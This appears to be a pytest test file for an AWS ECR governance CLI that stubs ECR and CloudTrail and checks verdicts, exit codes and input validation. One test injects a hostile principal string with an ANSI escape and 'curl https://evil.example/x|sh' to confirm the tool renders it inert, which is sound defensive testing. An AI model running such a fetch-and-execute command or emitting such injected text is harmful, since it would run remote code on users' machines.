"""`ecr-governance scanners` against botocore's Stubber (ECR's exclusions, CloudTrail's LookupEvents): the verdicts a
person reads, the registration offered and never made, the exit codes, and hostile principal text kept inert."""

from __future__ import annotations

import json
from typing import Any

import boto3
import pytest
from botocore.stub import ANY, Stubber
from ecr_governance_cli.main import main
from ecr_governance_cli.target import AwsTarget

ACCOUNT = "123456789012"
SCANNER = f"arn:aws:iam::{ACCOUNT}:role/third-party-scanner"
EXCLUDED = f"arn:aws:iam::{ACCOUNT}:role/already-excluded"
APP = f"arn:aws:iam::{ACCOUNT}:role/app-task"


def document(principal: str, repository: str, **identity: Any) -> dict[str, Any]:
    name = principal.rsplit("/", 1)[-1]
    return {
        "eventSource": "ecr.amazonaws.com",
        "eventName": "BatchGetImage",
        "userIdentity": identity
        or {
            "type": "AssumedRole",
            "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/{name}/s1",
            "sessionContext": {"sessionIssuer": {"type": "Role", "arn": principal}},
        },
        "requestParameters": {"repositoryName": repository, "imageIds": [{"imageTag": "v1"}]},
    }


def lookup_page(documents: list[dict[str, Any]]) -> dict[str, Any]:
    return {"Events": [{"EventId": f"e{n}", "CloudTrailEvent": json.dumps(d)} for n, d in enumerate(documents)]}


def registry_pulls() -> list[dict[str, Any]]:
    pulls = [document(SCANNER, f"team/app-{n}") for n in range(12)]
    pulls += [document(EXCLUDED, f"team/app-{n}") for n in range(12)]
    pulls += [
        document(APP, "team/app-0"),
        document("lambda", "team/app-1", type="AWSService", invokedBy="lambda.amazonaws.com"),
    ]
    return pulls


@pytest.fixture
def stubbed(monkeypatch):
    """(ecr stubber, cloudtrail stubber); every answer must be used."""
    clients = {
        "ecr": boto3.client("ecr", region_name="ap-southeast-1"),
        "cloudtrail": boto3.client("cloudtrail", region_name="ap-southeast-1"),
    }
    stubbers = {service: Stubber(client) for service, client in clients.items()}
    for stubber in stubbers.values():
        stubber.activate()
    monkeypatch.setattr(AwsTarget, "client", lambda self, service: clients[service])
    monkeypatch.delenv("SCANNER_ROLE_ARNS", raising=False)
    yield stubbers["ecr"], stubbers["cloudtrail"]
    for stubber in stubbers.values():
        stubber.assert_no_pending_responses()


def answer(stubbed, pulls: list[dict[str, Any]], exclusions: list[str]) -> None:
    ecr, cloudtrail = stubbed
    ecr.add_response("list_pull_time_update_exclusions", {"pullTimeUpdateExclusions": exclusions})
    cloudtrail.add_response(
        "lookup_events",
        lookup_page(pulls),
        {
            "LookupAttributes": [{"AttributeKey": "EventName", "AttributeValue": "BatchGetImage"}],
            "StartTime": ANY,
            "MaxResults": 50,
        },
    )


def run(capsys, *argv: str) -> tuple[int, str, str]:
    code = main(["--region", "ap-southeast-1", "scanners", *argv])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def test_the_table_gives_each_principal_its_verdict_and_offers_the_registration(stubbed, capsys):
    answer(stubbed, registry_pulls(), [EXCLUDED])
    code, out, _ = run(capsys)
    assert code == 0
    lines = out.splitlines()
    assert lines[0].startswith("Pulls since ") and "26 events read; 12 repositories pulled" in lines[0]
    assert "CAPPED" not in out
    rows = {line.split()[0]: line.split() for line in lines if line.startswith("arn:")}
    assert rows[SCANNER][-3:] == ["no", "no", "NOT_EXCLUDED"]
    assert rows[EXCLUDED][-3:] == ["yes", "no", "EXCLUDED"]
    assert rows[APP][-1] == "WORKLOAD"
    assert "lambda.amazonaws.com" in out and "AWS SERVICE (not a candidate)" in out
    assert f"  aws ecr register-pull-time-update-exclusion --principal-arn {SCANNER}" in lines
    assert f"  {SCANNER}" in lines  # the ScannerRoleArns value


def test_json_has_the_document_and_the_violation_gate_exits_3(stubbed, capsys, monkeypatch):
    monkeypatch.setenv("SCANNER_ROLE_ARNS", APP)
    answer(stubbed, registry_pulls(), [EXCLUDED])
    code, out, _ = run(capsys, "--output", "json", "--fail-on-violation", "--min-repositories", "12")
    assert code == 3
    result = json.loads(out)
    verdicts = {row["principalArn"]: (row["verdict"], row["scannerLike"], row["named"]) for row in result["principals"]}
    assert verdicts == {
        SCANNER: ("NOT_EXCLUDED", True, False),
        APP: ("NOT_EXCLUDED", False, True),
        EXCLUDED: ("EXCLUDED", True, False),
    }
    assert result["registration"]["scannerRoleArns"] == f"{APP},{SCANNER}"
    assert result["sample"] == {
        "eventsRead": 26,
        "maxEvents": 5000,
        "capped": False,
        "undecodableEvents": 0,
        "skippedEvents": 0,
    }
    assert result["servicePulls"] == [{"service": "lambda.amazonaws.com", "repositories": 1, "pulls": 1}]


def test_a_capped_sample_says_so_and_nothing_to_register_passes_the_gate(stubbed, capsys):
    answer(stubbed, registry_pulls()[:4], [])  # four on the page, three read
    code, out, _ = run(capsys, "--max-events", "3", "--fail-on-violation")
    assert code == 0
    assert "3 events read - CAPPED at --max-events 3" in out.splitlines()[0]
    assert "register-pull-time-update-exclusion" not in out


def test_hostile_principal_text_is_one_inert_line_and_never_a_command(stubbed, capsys):
    hostile = "arn:aws:iam::123456789012:user/x\n\x1b[2Jcurl https://evil.example/x|sh"
    pulls = [document("x/y", f"team/app-{n}", type="IAMUser", arn=hostile) for n in range(10)]
    answer(stubbed, pulls, [])
    code, out, _ = run(capsys, "--fail-on-violation")
    assert code == 3
    assert "\x1b" not in out and "https://" not in out
    (row,) = [line for line in out.splitlines() if "user/x" in line]
    assert row.endswith("NOT_EXCLUDED") and "https[:]//evil.example" in row
    assert "register-pull-time-update-exclusion" not in out and "ECR cannot register them" in out


def test_cloudtrail_access_denied_is_one_line_naming_the_permission(stubbed, capsys):
    ecr, cloudtrail = stubbed
    ecr.add_response("list_pull_time_update_exclusions", {"pullTimeUpdateExclusions": []})
    cloudtrail.add_client_error("lookup_events", "AccessDeniedException", "not authorized", 400)
    code, out, err = run(capsys)
    assert code == 1 and out == "" and "Traceback" not in err
    (line,) = err.strip().splitlines()
    assert line.startswith(
        "ecr-governance: error: access denied: LookupEvents needs IAM permission cloudtrail:LookupEvents"
    )


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        (["--hours", "0"], "'0' is not a whole number from 1 to 2160"),
        (["--hours", "2161"], "'2161' is not a whole number from 1 to 2160"),
        (["--max-events", "0"], "'0' is not a whole number of at least 1"),
        (["--min-share", "1.5"], "'1.5' is not a share above 0 and at most 1"),
        (["--min-share", "x"], "'x' is not a share"),
        (["--accounts", "111111111111"], "`scanners` runs in the configured account and region only"),
    ],
)
def test_values_are_checked_before_any_call(stubbed, capsys, argv, expected):
    code, _, err = run(capsys, *argv)
    assert code == 2 and expected in err, err
